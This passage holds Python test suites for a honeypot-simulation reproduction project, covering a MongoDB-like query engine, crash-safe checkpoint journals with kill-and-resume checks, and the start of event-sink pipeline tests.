from repro.mongodb_engine.engine import CommandError
from repro.mongodb_engine.query import QueryError


class TestMatcher:
    def test_empty_query_matches_everything(self):
        assert matches({"a": 1}, {})
        assert matches({}, {})

    def test_equality(self):
        assert matches({"a": 1}, {"a": 1})
        assert not matches({"a": 1}, {"a": 2})
        assert not matches({"a": 1}, {"b": 1})

    def test_numeric_cross_type_equality(self):
        assert matches({"a": 1}, {"a": 1.0})

    def test_bool_not_equal_to_int(self):
        assert not matches({"a": True}, {"a": 1})
        assert matches({"a": True}, {"a": True})

    def test_dotted_paths(self):
        doc = {"user": {"name": "ann", "tags": ["x", "y"]}}
        assert matches(doc, {"user.name": "ann"})
        assert matches(doc, {"user.tags.1": "y"})
        assert not matches(doc, {"user.tags.5": "y"})

    def test_array_multikey_equality(self):
        assert matches({"tags": ["a", "b"]}, {"tags": "a"})
        assert not matches({"tags": ["a", "b"]}, {"tags": "c"})

    def test_comparison_operators(self):
        doc = {"n": 5}
        assert matches(doc, {"n": {"$gt": 4}})
        assert matches(doc, {"n": {"$gte": 5}})
        assert matches(doc, {"n": {"$lt": 6}})
        assert matches(doc, {"n": {"$lte": 5}})
        assert not matches(doc, {"n": {"$gt": 5}})

    def test_comparison_on_strings(self):
        assert matches({"s": "b"}, {"s": {"$gt": "a"}})

    def test_comparison_incomparable_types_false(self):
        assert not matches({"s": "b"}, {"s": {"$gt": 1}})
        assert not matches({}, {"s": {"$gt": 1}})

    def test_ne_and_missing(self):
        assert matches({"a": 1}, {"a": {"$ne": 2}})
        assert matches({}, {"a": {"$ne": 2}})
        assert not matches({"a": 2}, {"a": {"$ne": 2}})

    def test_in_nin(self):
        assert matches({"a": 2}, {"a": {"$in": [1, 2]}})
        assert not matches({"a": 3}, {"a": {"$in": [1, 2]}})
        assert matches({"a": 3}, {"a": {"$nin": [1, 2]}})
        assert matches({}, {"a": {"$nin": [1, 2]}})

    def test_exists(self):
        assert matches({"a": None}, {"a": {"$exists": True}})
        assert not matches({}, {"a": {"$exists": True}})
        assert matches({}, {"a": {"$exists": False}})

    def test_regex(self):
        assert matches({"s": "hello world"}, {"s": {"$regex": "wor"}})
        assert not matches({"s": "hello"}, {"s": {"$regex": "^world"}})
        assert not matches({"s": 5}, {"s": {"$regex": "5"}})

    def test_logical_operators(self):
        doc = {"a": 1, "b": 2}
        assert matches(doc, {"$and": [{"a": 1}, {"b": 2}]})
        assert matches(doc, {"$or": [{"a": 9}, {"b": 2}]})
        assert matches(doc, {"$nor": [{"a": 9}, {"b": 9}]})
        assert not matches(doc, {"$nor": [{"a": 1}]})

    def test_not_operator(self):
        assert matches({"a": 1}, {"a": {"$not": {"$gt": 5}}})
        assert not matches({"a": 9}, {"a": {"$not": {"$gt": 5}}})

    def test_unknown_operator_raises(self):
        with pytest.raises(QueryError):
            matches({"a": 1}, {"a": {"$frobnicate": 1}})
        with pytest.raises(QueryError):
            matches({"a": 1}, {"$xyz": []})

    def test_bad_operands_raise(self):
        with pytest.raises(QueryError):
            matches({"a": 1}, {"$and": "not-a-list"})
        with pytest.raises(QueryError):
            matches({"a": 1}, {"a": {"$in": 5}})


@pytest.fixture
def engine() -> MongoEngine:
    engine = MongoEngine()
    engine.insert("shop", "orders", [
        {"item": "apple", "qty": 5},
        {"item": "pear", "qty": 2},
        {"item": "apple", "qty": 9},
    ])
    return engine


class TestDirectApi:
    def test_insert_assigns_ids(self, engine):
        docs = engine.find("shop", "orders")
        assert len(docs) == 3
        assert all("_id" in doc for doc in docs)
        assert len({doc["_id"].hex() for doc in docs}) == 3

    def test_find_with_filter_and_limit(self, engine):
        apples = engine.find("shop", "orders", {"item": "apple"})
        assert len(apples) == 2
        assert len(engine.find("shop", "orders", {"item": "apple"},
                               limit=1)) == 1

    def test_find_missing_collection(self, engine):
        assert engine.find("shop", "nope") == []
        assert engine.find("nodb", "orders") == []

    def test_count(self, engine):
        assert engine.count("shop", "orders") == 3
        assert engine.count("shop", "orders", {"qty": {"$gt": 4}}) == 2

    def test_delete_with_limit(self, engine):
        removed = engine.delete("shop", "orders", {"item": "apple"},
                                limit=1)
        assert removed == 1
        assert engine.count("shop", "orders") == 2

    def test_delete_all_matching(self, engine):
        assert engine.delete("shop", "orders", {}) == 3

    def test_drop_collection(self, engine):
        assert engine.drop_collection("shop", "orders")
        assert not engine.drop_collection("shop", "orders")
        assert engine.list_databases() == []

    def test_drop_database(self, engine):
        assert engine.drop_database("shop")
        assert not engine.drop_database("shop")

    def test_list_helpers(self, engine):
        engine.insert("shop", "refunds", [{"x": 1}])
        assert engine.list_databases() == ["shop"]
        assert engine.list_collections("shop") == ["orders", "refunds"]


class TestCommands:
    def test_hello_and_ismaster(self, engine):
        for name in ("hello", "isMaster", "ismaster"):
            reply = engine.run_command("admin", {name: 1})
            assert reply["ismaster"] is True
            assert reply["ok"] == 1.0

    def test_build_info(self, engine):
        reply = engine.run_command("admin", {"buildInfo": 1})
        assert reply["version"] == engine.version

    def test_list_databases_command(self, engine):
        reply = engine.run_command("admin", {"listDatabases": 1})
        assert [d["name"] for d in reply["databases"]] == ["shop"]

    def test_list_collections_command(self, engine):
        reply = engine.run_command("shop", {"listCollections": 1})
        names = [c["name"] for c in reply["cursor"]["firstBatch"]]
        assert names == ["orders"]

    def test_find_command(self, engine):
        reply = engine.run_command("shop", {
            "find": "orders", "filter": {"item": "pear"}})
        batch = reply["cursor"]["firstBatch"]
        assert len(batch) == 1
        assert batch[0]["qty"] == 2

    def test_insert_command(self, engine):
        reply = engine.run_command("shop", {
            "insert": "orders", "documents": [{"item": "plum", "qty": 1}]})
        assert reply["n"] == 1
        assert engine.count("shop", "orders") == 4

    def test_delete_command(self, engine):
        reply = engine.run_command("shop", {
            "delete": "orders",
            "deletes": [{"q": {"item": "apple"}, "limit": 0}]})
        assert reply["n"] == 2

    def test_drop_command(self, engine):
        reply = engine.run_command("shop", {"drop": "orders"})
        assert reply["ns"] == "shop.orders"
        with pytest.raises(CommandError):
            engine.run_command("shop", {"drop": "orders"})

    def test_drop_database_command(self, engine):
        reply = engine.run_command("shop", {"dropDatabase": 1})
        assert reply["dropped"] == "shop"

    def test_count_command(self, engine):
        reply = engine.run_command("shop", {"count": "orders"})
        assert reply["n"] == 3

    def test_unknown_command_raises(self, engine):
        with pytest.raises(CommandError) as excinfo:
            engine.run_command("admin", {"explode": 1})
        assert excinfo.value.code == 59

    def test_empty_command_raises(self, engine):
        with pytest.raises(CommandError):
            engine.run_command("admin", {})

    def test_insert_requires_documents(self, engine):
        with pytest.raises(CommandError):
            engine.run_command("shop", {"insert": "orders"})

    def test_bad_query_becomes_command_error(self, engine):
        with pytest.raises(CommandError) as excinfo:
            engine.run_command("shop", {
                "find": "orders", "filter": {"a": {"$bogus": 1}}})
        assert excinfo.value.code == 2


@given(st.lists(st.integers(min_value=0, max_value=20), min_size=1,
                max_size=30),
       st.integers(min_value=0, max_value=20))
def test_find_delete_invariant(values, pivot):
    """delete(q) removes exactly the documents find(q) returned."""
    engine = MongoEngine()
    engine.insert("db", "c", [{"v": v} for v in values])
    query = {"v": {"$gte": pivot}}
    expected = len(engine.find("db", "c", query))
    removed = engine.delete("db", "c", query)
    assert removed == expected
    assert engine.count("db", "c") == len(values) - removed
    assert engine.find("db", "c", query) == []
