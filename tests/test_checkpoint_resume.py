"""Crash-safe runs: the journal, the commit barrier, and kill-resume.

The contract under test: a checkpointed run that dies -- ``kill -9``,
worker SIGKILL, anything -- can be continued with ``repro run --resume``
and the finished artifacts (database contents, raw logs, dead letter,
chaos accounting, conservation) are **byte-identical** to a run that was
never interrupted, at any worker count.  The supporting invariants:

* the journal only ever under-claims (``checkpoint => durable``): a
  torn tail line is a benign crash artifact, anything else is
  corruption and strict resume refuses,
* resume validation re-derives the chained content digest of each
  database's committed prefix and truncates every output back to its
  checkpoint before appending,
* ``--checkpoint-interval 0`` (the default) leaves no journal and no
  fsync barriers behind.
"""

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from repro.deployment import ExperimentConfig, run_experiment
from repro.deployment.checkpoint import (ResumeError, ResumeUnnecessary,
                                         prepare_resume)
from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.convert import (DIGEST_SEED, chain_digest,
                                    prefix_digest, truncate_events)
from repro.pipeline.logstore import LogEvent
from repro.pipeline.sinks import RawLogSink, SQLiteWriterSink
from repro.resilience import faults
from repro.resilience.deadletter import DeadLetterWriter, read_dead_letters
from repro.runtime.journal import (JournalCorrupt, JournalError,
                                   RunJournal, journal_path, read_journal)
from tests.test_replay_sharded import table_digests

SEED = 2024
SCALE = 0.0001

REPO_ROOT = Path(__file__).resolve().parent.parent


def make_event(**overrides) -> LogEvent:
    base = dict(timestamp=1711065600.0, honeypot_id="hp-1",
                honeypot_type="qeeqbox", dbms="mysql", interaction="low",
                config="multi", src_ip="20.0.0.1", src_port=5555,
                event_type="connect")
    base.update(overrides)
    return LogEvent(**base)


@pytest.fixture
def world():
    space = AddressSpace()
    space.register_as(64500, "HOSTCO", "Germany", ASType.HOSTING)
    from repro.pipeline.institutional import InstitutionalScannerList

    return GeoIPDatabase.from_address_space(space), \
        InstitutionalScannerList()


# ---------------------------------------------------------------------------
# The run journal


class TestRunJournal:
    def test_round_trip(self, tmp_path):
        with RunJournal.create(tmp_path, {"run_id": "r1", "seed": 7}) \
                as journal:
            assert journal.checkpoint({"watermark": [1.0, "a", 0]}) == 0
            assert journal.checkpoint({"watermark": [2.0, "b", 1]}) == 1
            journal.complete({"visits": 2})
        view = read_journal(tmp_path)
        assert view.header["run_id"] == "r1"
        assert [c["seq"] for c in view.checkpoints] == [0, 1]
        assert view.complete["visits"] == 2
        assert not view.torn_tail and view.dropped == 0

    def test_missing_journal_raises(self, tmp_path):
        with pytest.raises(JournalError, match="checkpoint-interval"):
            read_journal(tmp_path)

    def test_torn_tail_is_dropped_silently(self, tmp_path):
        with RunJournal.create(tmp_path, {"run_id": "r1"}) as journal:
            journal.checkpoint({"n": 1})
        path = journal_path(tmp_path)
        with open(path, "a", encoding="utf-8") as handle:
            handle.write('{"kind":"checkpoint","seq":1,"tr')  # no \n
        view = read_journal(tmp_path)  # strict mode
        assert view.torn_tail
        assert len(view.checkpoints) == 1

    def test_garbage_middle_line_is_corruption(self, tmp_path):
        with RunJournal.create(tmp_path, {"run_id": "r1"}) as journal:
            journal.checkpoint({"n": 1})
            journal.checkpoint({"n": 2})
        path = journal_path(tmp_path)
        lines = path.read_text().splitlines()
        lines[1] = "not json at all"
        path.write_text("\n".join(lines) + "\n")
        with pytest.raises(JournalCorrupt, match="resume=force"):
            read_journal(tmp_path)
        view = read_journal(tmp_path, force=True)
        assert view.dropped == 2
        assert view.checkpoints == []

    def test_crc_flip_detected(self, tmp_path):
        with RunJournal.create(tmp_path, {"run_id": "r1"}) as journal:
            journal.checkpoint({"value": "original"})
            journal.checkpoint({"value": "second"})
        path = journal_path(tmp_path)
        tampered = path.read_text().replace("original", "oriGinal")
        path.write_text(tampered)
        with pytest.raises(JournalCorrupt, match="crc mismatch"):
            read_journal(tmp_path)

    def test_sequence_gap_detected(self, tmp_path):
        with RunJournal.create(tmp_path, {"run_id": "r1"}) as journal:
            for n in range(3):
                journal.checkpoint({"n": n})
        path = journal_path(tmp_path)
        lines = path.read_text().splitlines()
        del lines[2]  # checkpoint seq 1 vanishes
        path.write_text("\n".join(lines) + "\n")
        with pytest.raises(JournalCorrupt, match="sequence gap"):
            read_journal(tmp_path)
        view = read_journal(tmp_path, force=True)
        assert [c["seq"] for c in view.checkpoints] == [0]

    def test_rewrite_supersedes_and_continues_numbering(self, tmp_path):
        with RunJournal.create(tmp_path, {"run_id": "r1"}) as journal:
            for n in range(3):
                journal.checkpoint({"n": n})
        view = read_journal(tmp_path)
        kept = [view.header, *view.checkpoints[:2]]
        with RunJournal.rewrite(tmp_path, kept) as journal:
            journal.resume_marker({"mode": "latest"})
            assert journal.checkpoint({"n": "new"}) == 2
        view = read_journal(tmp_path)
        assert [c["seq"] for c in view.checkpoints] == [0, 1, 2]
        assert len(view.resumes) == 1


# ---------------------------------------------------------------------------
# The chained content digest and commit barrier


class TestDurableSink:
    def _write(self, tmp_path, world, events, *, resume=None):
        geoip, scanners = world
        sink = SQLiteWriterSink(tmp_path / "db.sqlite", geoip, scanners,
                                durable=True, resume=resume)
        for event in events:
            sink(event)
        return sink

    def test_commit_reports_rows_and_digest(self, tmp_path, world):
        events = [make_event(src_port=p) for p in range(5000, 5020)]
        sink = self._write(tmp_path, world, events)
        state = sink.commit()
        assert state["rows"] == 20
        sink.close()
        assert sink.committed_state["rows"] == 20
        # The reported digest is reproducible from the database itself.
        assert prefix_digest(tmp_path / "db.sqlite", 20) \
            == sink.committed_state["digest"]

    def test_commit_before_any_event_is_empty_state(self, tmp_path,
                                                    world):
        geoip, scanners = world
        sink = SQLiteWriterSink(tmp_path / "db.sqlite", geoip, scanners,
                                durable=True)
        assert sink.commit() == {"rows": 0,
                                 "digest": DIGEST_SEED.hex()}

    def test_truncate_then_resume_extends_digest_chain(self, tmp_path,
                                                       world):
        events = [make_event(src_port=p) for p in range(6000, 6030)]
        sink = self._write(tmp_path, world, events[:20])
        mid = sink.commit()
        for event in events[20:]:
            sink(event)
        sink.close()
        db = tmp_path / "db.sqlite"
        # Crash simulation: drop the uncommitted-beyond-mid tail, then
        # resume from the checkpointed (rows, digest) and append the
        # tail again -- the final digest must match an uninterrupted
        # conversion's.
        uninterrupted = sink.committed_state
        assert truncate_events(db, mid["rows"]) == 10
        assert prefix_digest(db, mid["rows"]) == mid["digest"]
        resumed = self._write(tmp_path, world, events[20:],
                              resume=(mid["rows"], mid["digest"]))
        resumed.close()
        assert resumed.committed_state == uninterrupted
        assert prefix_digest(db, 30) == uninterrupted["digest"]

    def test_prefix_digest_detects_tamper_and_short_db(self, tmp_path,
                                                       world):
        sink = self._write(tmp_path, world,
                           [make_event(src_port=p)
                            for p in range(7000, 7010)])
        sink.close()
        db = tmp_path / "db.sqlite"
        good = sink.committed_state["digest"]
        assert prefix_digest(db, 11) is None  # fewer rows than claimed
        import sqlite3

        with sqlite3.connect(db) as connection:
            connection.execute(
                "UPDATE events SET src_port = 1 WHERE id = 3")
        assert prefix_digest(db, 10) != good

    def test_chain_digest_is_order_sensitive(self):
        a = chain_digest(DIGEST_SEED, ("x",))
        b = chain_digest(a, ("y",))
        c = chain_digest(chain_digest(DIGEST_SEED, ("y",)), ("x",))
        assert b != c

    def test_close_propagates_writer_thread_error(self, tmp_path,
                                                  world):
        geoip, scanners = world
        sink = SQLiteWriterSink(tmp_path / "db.sqlite", geoip, scanners)
        sink(make_event())
        sink("not an event at all")  # poisons the writer thread
        with pytest.raises(Exception):
            sink.close()

    def test_call_fails_fast_after_writer_death(self, tmp_path, world):
        geoip, scanners = world
        sink = SQLiteWriterSink(tmp_path / "db.sqlite", geoip, scanners,
                                durable=True)
        sink("poison")
        # The poisoned row sits buffered until a flush; the commit
        # barrier forces one and surfaces the writer's death.
        with pytest.raises(RuntimeError):
            sink.commit()
        with pytest.raises(RuntimeError, match="already failed"):
            sink(make_event())

    def test_resume_requires_durable(self, tmp_path, world):
        geoip, scanners = world
        with pytest.raises(ValueError, match="durable"):
            SQLiteWriterSink(tmp_path / "db.sqlite", geoip, scanners,
                             resume=(1, "ab"))


class TestAuxiliarySinkCommit:
    def test_raw_log_commit_and_resume_offsets(self, tmp_path):
        sink = RawLogSink(tmp_path / "raw")
        sink(make_event())
        offsets = sink.commit()
        name = "low-mysql-multi.jsonl"
        committed = offsets[name]
        sink(make_event(src_port=9))
        sink.close()
        # Crash simulation: trim to the committed offset, resume, and
        # re-append -- the file reads as one uninterrupted stream.
        os.truncate(tmp_path / "raw" / name, committed)
        resumed = RawLogSink(tmp_path / "raw", resume=offsets)
        resumed(make_event(src_port=9))
        resumed.close()
        lines = (tmp_path / "raw" / name).read_text().splitlines()
        assert len(lines) == 2
        assert json.loads(lines[1])["src_port"] == 9

    def test_raw_log_commit_keeps_idle_groups(self, tmp_path):
        sink = RawLogSink(tmp_path / "raw",
                          resume={"low-redis-multi.jsonl": 123})
        sink(make_event())
        offsets = sink.commit()
        assert offsets["low-redis-multi.jsonl"] == 123

    def test_dead_letter_commit_and_resume(self, tmp_path):
        path = tmp_path / "quarantine.jsonl"
        writer = DeadLetterWriter(path)
        writer.quarantine("visit", "boom", events=[make_event()])
        committed = writer.commit()
        writer.quarantine("visit", "lost-after-commit")
        writer.close()
        os.truncate(path, committed["bytes"])
        resumed = DeadLetterWriter(
            path, resume=(committed["bytes"], committed["count"]))
        resumed.quarantine("visit", "after-resume")
        resumed.close()
        assert resumed.count == 2
        records = read_dead_letters(path)
        assert [r["reason"] for r in records] == ["boom", "after-resume"]


# ---------------------------------------------------------------------------
# Full-run crash and resume (subprocess kill -9 + CLI resume)


def digest_artifacts(output_dir: Path) -> dict:
    """Everything the byte-identical claim covers, digestible."""
    artifacts = {
        "low": table_digests(output_dir / "low.sqlite"),
        "midhigh": table_digests(output_dir / "midhigh.sqlite"),
    }
    raw_dir = output_dir / "raw-logs"
    if raw_dir.is_dir():
        artifacts["raw"] = {path.name: path.read_bytes()
                            for path in sorted(raw_dir.glob("*.jsonl"))}
    quarantine = output_dir / "quarantine.jsonl"
    artifacts["dead_letter"] = (
        [(r["reason"], r.get("actor"), r.get("seq"))
         for r in read_dead_letters(quarantine)]
        if quarantine.exists() else [])
    return artifacts


def cli(*argv) -> int:
    from repro.cli import main

    return main([str(arg) for arg in argv])


def launch_run(output_dir: Path, *, interval: float,
               extra: tuple = ()) -> subprocess.Popen:
    argv = [sys.executable, "-m", "repro", "run",
            "--seed", str(SEED), "--scale", str(SCALE),
            "--output", str(output_dir), "--workers", "4",
            "--telemetry", "--raw-logs",
            "--checkpoint-interval", str(interval), *extra]
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO_ROOT / "src")
    return subprocess.Popen(argv, env=env, cwd=REPO_ROOT,
                            stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)


def kill_when(proc: subprocess.Popen, output_dir: Path,
              min_checkpoints: int, timeout: float = 180.0) -> int:
    """SIGKILL ``proc`` once the journal shows ``min_checkpoints``.

    Returns the checkpoint count at kill time; -1 if the run finished
    first (callers should then skip -- nothing left to resume).
    """
    journal = journal_path(output_dir)
    deadline = time.time() + timeout
    while time.time() < deadline:
        count = 0
        if journal.exists():
            count = sum(1 for line in
                        journal.read_text(encoding="utf-8").splitlines()
                        if '"kind":"checkpoint"' in line)
            if count >= min_checkpoints:
                os.kill(proc.pid, signal.SIGKILL)
                proc.wait(timeout=30)
                return count
        if proc.poll() is not None:
            return -1
        time.sleep(0.02)
    proc.kill()
    raise AssertionError("run never reached the kill point")


@pytest.fixture(scope="module")
def reference(tmp_path_factory):
    """The uninterrupted ground truth: serial, no checkpointing."""
    out = tmp_path_factory.mktemp("reference")
    result = run_experiment(ExperimentConfig(
        seed=SEED, volume_scale=SCALE, output_dir=out,
        write_raw_logs=True, telemetry=True))
    return out, result


@pytest.fixture(scope="module")
def killed_run(tmp_path_factory):
    """A 4-worker checkpointed run SIGKILLed after >= 2 checkpoints."""
    out = tmp_path_factory.mktemp("killed")
    proc = launch_run(out, interval=0.05)
    count = kill_when(proc, out, min_checkpoints=2)
    if count < 0:
        pytest.skip("run finished before the kill point")
    return out


def copy_run(source: Path, tmp_path: Path) -> Path:
    target = tmp_path / "run"
    shutil.copytree(source, target)
    return target


class TestCheckpointOffParity:
    def test_default_run_leaves_no_journal(self, reference):
        out, result = reference
        assert not (out / "run_journal").exists()
        assert result.journal_path is None
        assert result.checkpoints_taken == 0
        manifest = json.loads(
            (out / "run_report.json").read_text(encoding="utf-8"))
        assert manifest["partial"] is False
        assert manifest["checkpoint"] is None


class TestKillResume:
    def test_resume_mid_kill_is_byte_identical(self, killed_run,
                                               reference, tmp_path):
        out = copy_run(killed_run, tmp_path)
        # Resume at a *different* worker count: determinism must be
        # independent of execution shape.
        assert cli("run", "--output", out, "--workers", "2",
                   "--telemetry", "--resume",
                   "--checkpoint-interval", "0.05") == 0
        assert digest_artifacts(out) == digest_artifacts(reference[0])
        manifest = json.loads(
            (out / "run_report.json").read_text(encoding="utf-8"))
        resilience = manifest["resilience"]
        assert resilience["conservation_ok"] is True
        assert manifest["checkpoint"]["resume"]["mode"] == "latest"
        assert manifest["checkpoint"]["resume"]["fast_forwarded_visits"] \
            > 0
        view = read_journal(out)
        assert view.complete is not None
        assert len(view.resumes) == 1
        # No uncommitted tail rows: ids are contiguous 1..N and the
        # row counts match the reference exactly.
        import sqlite3

        for db in ("low.sqlite", "midhigh.sqlite"):
            with sqlite3.connect(out / db) as connection:
                rows, max_id = connection.execute(
                    "SELECT COUNT(*), MAX(id) FROM events").fetchone()
            with sqlite3.connect(reference[0] / db) as connection:
                ref_rows, = connection.execute(
                    "SELECT COUNT(*) FROM events").fetchone()
            assert (rows, max_id) == (ref_rows, ref_rows)

    def test_resume_before_first_checkpoint_restarts(self, reference,
                                                     tmp_path):
        out = tmp_path / "early"
        # Interval far beyond the run time: the journal only ever holds
        # its header, so the kill lands before any durable progress.
        proc = launch_run(out, interval=3600)
        count = kill_when(proc, out, min_checkpoints=0)
        if count < 0:
            pytest.skip("run finished before the kill point")
        assert cli("run", "--output", out, "--workers", "4",
                   "--telemetry", "--resume") == 0
        assert digest_artifacts(out) == digest_artifacts(reference[0])

    def test_resume_late_kill_is_byte_identical(self, reference,
                                                tmp_path):
        out = tmp_path / "late"
        proc = launch_run(out, interval=0.05)
        count = kill_when(proc, out, min_checkpoints=6)
        if count < 0:
            pytest.skip("run finished before the kill point")
        assert cli("run", "--output", out, "--workers", "4",
                   "--telemetry", "--resume") == 0
        assert digest_artifacts(out) == digest_artifacts(reference[0])
        manifest = json.loads(
            (out / "run_report.json").read_text(encoding="utf-8"))
        assert manifest["resilience"]["conservation_ok"] is True

    def test_resume_of_completed_run_is_noop(self, killed_run,
                                             reference, tmp_path,
                                             capsys):
        out = copy_run(killed_run, tmp_path)
        assert cli("run", "--output", out, "--resume",
                   "--telemetry") == 0
        assert cli("run", "--output", out, "--resume") == 0
        assert "nothing to do" in capsys.readouterr().out
        assert digest_artifacts(out) == digest_artifacts(reference[0])

    def test_resume_without_journal_fails_cleanly(self, tmp_path,
                                                  capsys):
        assert cli("run", "--output", tmp_path / "empty",
                   "--resume") == 1
        assert "no run journal" in capsys.readouterr().err


class TestResumeValidation:
    def test_garbage_journal_refused_then_forced(self, killed_run,
                                                 reference, tmp_path,
                                                 capsys):
        out = copy_run(killed_run, tmp_path)
        path = journal_path(out)
        lines = path.read_text(encoding="utf-8").splitlines()
        lines[1] = "garbage " * 5
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        assert cli("run", "--output", out, "--resume") == 1
        assert "damaged record" in capsys.readouterr().err
        # Force keeps the longest valid prefix -- here just the header,
        # so the run restarts from scratch and still converges.
        assert cli("run", "--output", out, "--workers", "2",
                   "--resume", "force") == 0
        assert digest_artifacts(out) == digest_artifacts(reference[0])

    def test_tampered_database_refused_then_forced(self, killed_run,
                                                   reference, tmp_path,
                                                   capsys):
        out = copy_run(killed_run, tmp_path)
        import sqlite3

        with sqlite3.connect(out / "low.sqlite") as connection:
            connection.execute(
                "UPDATE events SET src_port = src_port + 1 "
                "WHERE id = 1")
        assert cli("run", "--output", out, "--resume") == 1
        assert "digest mismatch" in capsys.readouterr().err
        # Every checkpoint covers row 1, so force walks all the way
        # back to a scratch restart -- and still converges.
        assert cli("run", "--output", out, "--resume", "force") == 0
        assert digest_artifacts(out) == digest_artifacts(reference[0])

    def test_truncated_journal_forced_resumes_valid_prefix(
            self, killed_run, reference, tmp_path):
        out = copy_run(killed_run, tmp_path)
        path = journal_path(out)
        lines = [line for line in
                 path.read_text(encoding="utf-8").splitlines()
                 if line]
        checkpoints = [i for i, line in enumerate(lines)
                       if '"kind":"checkpoint"' in line]
        # Corrupt the *last* checkpoint record: strict refuses (it is
        # not a torn tail -- the CRC is wrong, not the line incomplete),
        # force falls back to the previous checkpoint.
        last = checkpoints[-1]
        lines[last] = lines[last].replace('"kind":"checkpoint"',
                                          '"kind":"checkpoinT"')
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        with pytest.raises((ResumeError, JournalError)):
            prepare_resume(ExperimentConfig(
                output_dir=out, resume="latest",
                checkpoint_interval=0.05))
        assert cli("run", "--output", out, "--resume", "force") == 0
        assert digest_artifacts(out) == digest_artifacts(reference[0])

    def test_dataset_export_incompatible(self, tmp_path, capsys):
        assert cli("run", "--output", tmp_path, "--dataset",
                   "--checkpoint-interval", "1") == 2
        assert cli("run", "--output", tmp_path, "--dataset",
                   "--resume") == 2
        capsys.readouterr()
        with pytest.raises(ValueError, match="dataset"):
            run_experiment(ExperimentConfig(
                output_dir=tmp_path, export_dataset=True,
                checkpoint_interval=1.0))

    def test_bad_cli_arguments(self, tmp_path, capsys):
        assert cli("run", "--output", tmp_path,
                   "--checkpoint-interval", "-1") == 2
        assert cli("run", "--output", tmp_path, "--resume",
                   "sideways") == 2
        capsys.readouterr()

    def test_completed_journal_raises_resume_unnecessary(
            self, tmp_path):
        run_experiment(ExperimentConfig(
            seed=SEED, volume_scale=SCALE, output_dir=tmp_path,
            checkpoint_interval=5.0))
        with pytest.raises(ResumeUnnecessary):
            prepare_resume(ExperimentConfig(output_dir=tmp_path,
                                            resume="latest"))


# ---------------------------------------------------------------------------
# Chaos: worker-kill plan and crash accounting across the boundary


class TestWorkerKillChaos:
    def test_worker_kill_is_a_builtin_plan(self, capsys):
        assert cli("chaos", "--list-plans") == 0
        out = capsys.readouterr().out
        assert "worker-kill" in out
        assert "proc.kill" in out

    def test_all_plan_excludes_proc_kill(self):
        assert "proc.kill" not in faults.BUILTIN_PLANS["all"]

    def test_chaos_auto_resumes_after_worker_kill(self, tmp_path,
                                                  capsys):
        code = cli("chaos", "--plan", "worker-kill", "--seed", SEED,
                   "--scale", SCALE, "--output", tmp_path / "chaos",
                   "--workers", "4", "--checkpoint-interval", "0.05")
        captured = capsys.readouterr()
        assert code == 0, captured.err
        assert "resuming from the last durable checkpoint" \
            in captured.err
        assert "conservation: OK" in captured.out
        view = read_journal(tmp_path / "chaos")
        assert view.complete is not None
        # The resume disarmed the kill site; the journal records it.
        assert view.resumes[0]["disarmed"] == ["proc.kill"]

    def test_fault_accounting_spans_the_crash_boundary(
            self, tmp_path_factory):
        """visit.crash fire counts and the dead letter must come out
        identical whether or not a SIGKILL interrupted the run."""
        crash_sites = {"visit.crash": {"probability": 0.01}}
        ref_out = tmp_path_factory.mktemp("chaos-ref")
        reference = run_experiment(ExperimentConfig(
            seed=SEED, volume_scale=SCALE, output_dir=ref_out,
            telemetry=True,
            fault_plan=faults.plan_from_dict(crash_sites, seed=SEED,
                                             name="crashy")))

        out = tmp_path_factory.mktemp("chaos-killed")
        plan = faults.plan_from_dict(
            {**crash_sites,
             "proc.kill": {"probability": 1.0, "max_fires": 1,
                           "start_after": 40}},
            seed=SEED, name="crashy")
        with pytest.raises(Exception):
            # The SIGKILLed worker surfaces as WorkerLostError.
            run_experiment(ExperimentConfig(
                seed=SEED, volume_scale=SCALE, output_dir=out,
                telemetry=True, fault_plan=plan, workers=4,
                checkpoint_interval=0.05))
        resumed = run_experiment(ExperimentConfig(
            seed=SEED, volume_scale=SCALE, output_dir=out,
            telemetry=True, workers=4, checkpoint_interval=0.05,
            resume="latest"))
        assert resumed.conservation_ok
        assert (resumed.events_generated, resumed.events_quarantined,
                resumed.quarantined_visits) == \
            (reference.events_generated, reference.events_quarantined,
             reference.quarantined_visits)
        assert table_digests(resumed.low_db) \
            == table_digests(reference.low_db)
        assert table_digests(resumed.midhigh_db) \
            == table_digests(reference.midhigh_db)
        ref_dead = ([(r["reason"], r["actor"], r["seq"]) for r in
                     read_dead_letters(reference.quarantine_path)]
                    if reference.quarantine_path else [])
        got_dead = ([(r["reason"], r["actor"], r["seq"]) for r in
                     read_dead_letters(resumed.quarantine_path)]
                    if resumed.quarantine_path else [])
        assert got_dead == ref_dead
        # Chaos accounting: the resumed run's visit.crash counters are
        # rebuilt exactly by the fast-forward replay (keyed decisions),
        # so they match the uninterrupted run's.
        ref_faults = reference.report["resilience"]["faults"]
        got_faults = resumed.report["resilience"]["faults"]
        assert got_faults["visit.crash"] == ref_faults["visit.crash"]


# ---------------------------------------------------------------------------
# The stats banner


class TestStatsPartialBanner:
    def test_partial_manifest_prints_banner(self, tmp_path, capsys):
        from repro.obs.report import SCHEMA

        (tmp_path / "run_report.json").write_text(json.dumps({
            "schema": SCHEMA, "partial": True, "run_id": "abc",
            "visits_total": 10,
        }), encoding="utf-8")
        assert cli("stats", "--output", tmp_path) == 0
        out = capsys.readouterr().out
        assert "run in progress or interrupted" in out
        assert "--resume" in out

    def test_final_manifest_has_no_banner(self, reference, capsys):
        assert cli("stats", "--output", reference[0]) == 0
        out = capsys.readouterr().out
        assert "PARTIAL" not in out
        assert "checkpointing" not in out
