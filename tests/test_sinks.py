"""Tests for the composable event-sink pipeline."""

import pytest

from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.convert import count_events, read_events
from repro.pipeline.institutional import InstitutionalScannerList
from repro.pipeline.logstore import LogEvent, LogStore
from repro.pipeline.sinks import (BufferSink, CountingSink,
                                  EventSinkProtocol, RawLogSink,
                                  SQLiteWriterSink, TeeSink, TierSplitSink,
                                  close_sink)


def make_event(**overrides) -> LogEvent:
    base = dict(timestamp=1711065600.0, honeypot_id="hp-1",
